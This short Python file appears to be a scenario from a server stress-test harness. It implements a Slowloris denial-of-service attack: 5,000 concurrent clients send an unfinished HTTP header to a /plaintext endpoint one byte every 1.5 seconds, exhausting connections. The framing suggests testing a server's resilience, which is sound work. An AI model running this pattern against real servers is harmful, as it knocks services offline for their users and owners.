"""Slowloris: 5,000 clients whose heads arrive octet by octet and never end."""

import asyncio

from wire import drip, send, swarm

CLIENTS = 5_000


async def client(target, connection):
    for octet in drip(b"GET /plaintext HTTP/1.1\r\nHost: x\r\nX-Slow: aaaaaaaaaaaaaaaa"):
        await send(connection, octet)
        target.count("octets")
        await asyncio.sleep(1.5)


async def attack(target):
    await swarm(target, CLIENTS, lambda connection: client(target, connection))
